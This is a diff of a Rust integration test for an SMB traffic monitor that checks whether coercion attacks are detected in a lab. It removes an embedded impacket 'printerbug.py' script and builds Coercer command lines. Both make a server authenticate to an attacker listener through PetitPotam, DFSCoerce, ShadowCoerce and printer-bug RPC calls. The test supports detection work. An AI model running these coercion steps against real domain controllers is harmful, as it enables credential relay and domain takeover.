@@ -14,14 +14,17 @@
 //! - `smb_coercion`: Coercer 2.4.3 from PyPI (`cargo xtask setup` installs
 //!   it in its own venv, with impacket 0.10 pinned) in `coerce` mode:
 //!   PetitPotam's EfsRpcOpenFileRaw through `\efsrpc` and `\lsarpc`,
-//!   DFSCoerce's NetrDfsAddStdRoot (`\netdfs`) and ShadowCoerce's
-//!   IsPathSupported (`\Fssagentrpc`); then the printer bug as
-//!   `printerbug.py` sends it ([`PRINTERBUG_PY`]) against the server,
-//!   configured as a domain controller (and again, no alert, under a
-//!   daemon where it is not one). Samba serves none of these (its
-//!   `\lsarpc` refuses MS-EFSR's BIND): `np_responder.py` behind smbd's
-//!   `np/<pipe>` sockets accepts the BINDs and faults every call (but
-//!   RpcOpenPrinter), so each call crosses the wire and nothing runs.
+//!   DFSCoerce's NetrDfsAddStdRoot (`\netdfs`), ShadowCoerce's
+//!   IsPathSupported (`\Fssagentrpc`) and the printer bug's
+//!   RpcOpenPrinter then RpcRemoteFindFirstPrinterChangeNotificationEx
+//!   (`\spoolss`), against the server configured as a domain controller;
+//!   then the printer bug again, no alert, under a daemon where it is not
+//!   one. Samba serves none of these (its `\lsarpc` refuses MS-EFSR's
+//!   BIND): `np_responder.py` behind smbd's `np/<pipe>` sockets accepts
+//!   the BINDs (NTLMSSP at PKT_PRIVACY, as Coercer binds) and faults every
+//!   call but RpcOpenPrinter, whose sealed handle lets the printer bug's
+//!   notification request follow; each call crosses the wire and nothing
+//!   runs.
 
 use std::{path::Path, time::Duration};
 
@@ -48,40 +51,18 @@ const COERCER_VENV: &str = "/var/cache/smbwatch-test/coercer-2.4.3";
 const CLIENT_TIMEOUT: &str = "90";
 
 /// The pipes Coercer is pointed at and the methods it calls on them: one
-/// of each family but the printer bug (below). Coercer binds at
-/// PKT_PRIVACY and opens the printer first; the responder cannot seal an
-/// answer, so Coercer's RpcOpenPrinter is faulted and it never sends the
-/// notification request.
-const COERCER_PIPES: &[&str] = &["efsrpc", "lsarpc", "netdfs", "Fssagentrpc"];
-const COERCER_METHODS: &[&str] = &["EfsRpcOpenFileRaw", "NetrDfsAddStdRoot", "IsPathSupported"];
+/// of each family.
+const COERCER_PIPES: &[&str] = &["efsrpc", "lsarpc", "netdfs", "Fssagentrpc", "spoolss"];
+const COERCER_METHODS: &[&str] = &[
+    "EfsRpcOpenFileRaw",
+    "NetrDfsAddStdRoot",
+    "IsPathSupported",
+    "RpcRemoteFindFirstPrinterChangeNotificationEx",
+];
 
-/// The pipes served by `np_responder.py`: Coercer's (its socket replaces
-/// samba-dcerpcd's `np/lsarpc`, whose LSA server refuses MS-EFSR's BIND)
-/// and `spoolss`.
-const SERVED: &[&str] = &["efsrpc", "lsarpc", "netdfs", "Fssagentrpc", "spoolss"];
-
-/// The printer bug as krbrelayx's `printerbug.py` (not on PyPI) sends it,
-/// on impacket 0.13's MS-RPRN: an unauthenticated bind to `\spoolss`,
-/// RpcOpenPrinter of the server, then
-/// RpcRemoteFindFirstPrinterChangeNotificationEx naming the attacker as
-/// the machine to notify.
-const PRINTERBUG_PY: &str = r#"
-import sys
-from impacket.dcerpc.v5 import rprn, transport
-from impacket.dcerpc.v5.dtypes import NULL
-host, user, password, listener = sys.argv[1:5]
-t = transport.DCERPCTransportFactory(r'ncacn_np:%s[\pipe\spoolss]' % host)
-t.set_credentials(user, password, '', '', '')
-dce = t.get_dce_rpc()
-dce.connect()
-dce.bind(rprn.MSRPC_UUID_RPRN)
-h = rprn.hRpcOpenPrinter(dce, '\\\\%s\x00' % host)['pHandle']
-try:
-    rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
-        dce, h, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine='\\\\%s\x00' % listener)
-except Exception as e:
-    print('notification refused (expected):', e)
-"#;
+/// The pipes served by `np_responder.py` (its socket replaces
+/// samba-dcerpcd's `np/lsarpc`, whose LSA server refuses MS-EFSR's BIND).
+const SERVED: &[&str] = COERCER_PIPES;
 
 fn action(v: &Value) -> &str {
     v["event"]["action"].as_str().unwrap_or("")
@@ -195,40 +176,33 @@ fn coercion_and_hive_saves_are_seen_on_the_wire() {
         .iter()
         .map(|p| smbd.serve_pipe(&python, p).expect("a pipe responder"))
         .collect();
-    let mut args = vec![
-        "coerce",
-        "-u",
-        USER,
-        "-p",
-        PASSWORD,
-        "-t",
-        &target,
-        "-l",
-        ATTACKER_V4,
-        "--always-continue",
-        "--auth-type",
-        "smb",
-        "--filter-transport-name",
-        "msrpc",
-    ];
-    for p in COERCER_PIPES {
-        args.extend(["--filter-pipe-name", p]);
-    }
-    for m in COERCER_METHODS {
-        args.extend(["--filter-method-name", m]);
-    }
-    let mut out = run(&lab, &format!("{COERCER_VENV}/bin/coercer"), &args);
-    let script = dir.0.join("printerbug.py");
-    std::fs::write(&script, PRINTERBUG_PY).unwrap();
-    let script = script.to_str().unwrap();
-    let printer_bug = || {
-        run(
-            &lab,
-            &python,
-            &[script, &target, USER, PASSWORD, ATTACKER_V4],
-        )
+    // Coercer's `coerce` mode, limited to `pipes` and `methods`.
+    let coercer = |pipes: &[&str], methods: &[&str]| {
+        let mut args = vec![
+            "coerce",
+            "-u",
+            USER,
+            "-p",
+            PASSWORD,
+            "-t",
+            &target,
+            "-l",
+            ATTACKER_V4,
+            "--always-continue",
+            "--auth-type",
+            "smb",
+            "--filter-transport-name",
+            "msrpc",
+        ];
+        for p in pipes {
+            args.extend(["--filter-pipe-name", *p]);
+        }
+        for m in methods {
+            args.extend(["--filter-method-name", *m]);
+        }
+        run(&lab, &format!("{COERCER_VENV}/bin/coercer"), &args)
     };
-    out += &printer_bug();
+    let out = coercer(COERCER_PIPES, COERCER_METHODS);
     let coerced = |l: &[Value]| {
         call(l, "efsrpc", "EfsRpcOpenFileRaw", Some("efsrpc"))
             && call(l, "efsrpc", "EfsRpcOpenFileRaw", Some("lsarpc"))
@@ -311,7 +285,10 @@ fn coercion_and_hive_saves_are_seen_on_the_wire() {
         &["--events", "--config", plain.to_str().unwrap()],
     )
     .expect("smbwatch on the gateway");
-    let out = printer_bug();
+    let out = coercer(
+        &["spoolss"],
+        &["RpcRemoteFindFirstPrinterChangeNotificationEx"],
+    );
     let notify = |l: &[Value]| {
         call(
             l,
